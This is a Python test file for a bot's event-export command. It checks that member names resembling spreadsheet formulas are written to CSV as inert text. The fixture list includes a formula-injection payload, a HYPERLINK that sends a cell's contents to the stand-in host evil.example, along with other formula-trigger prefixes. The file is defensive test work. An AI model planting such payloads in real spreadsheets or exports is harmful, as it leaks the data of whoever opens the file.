"""``unionbot events export`` never writes a member's name as a live spreadsheet formula."""

from __future__ import annotations

import csv
from pathlib import Path

from sqlalchemy import update

from bot.app import App
from storage.models import Member
from tests.conftest import Chat
from tests.singles import add_event, ensure_member
from unionbot.cli import export_event

NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1",
    "王-芳",
]


async def test_formula_like_names_are_exported_as_text(app: App, tmp_path: Path) -> None:
    event = await add_event(app, places_total=10, profile_required=False)
    chat = Chat(app, "officer")
    for number, name in enumerate(NAMES):
        member = await ensure_member(app, f"p{number}")
        async with app.sessions() as session, session.begin():
            await session.execute(
                update(Member).where(Member.id == member).values(display_name=name)
            )
        assert "签到码" in await chat.text_of({"as": f"p{number}", "press": f"ev:s:{event}"})
    out = tmp_path / "list.csv"
    assert await export_event(app, event, out) == 0
    with out.open(encoding="utf-8-sig", newline="") as file:
        names = [row[0] for row in list(csv.reader(file))[1:]]
    assert names == ["'" + name for name in NAMES[:-1]] + ["王-芳"]
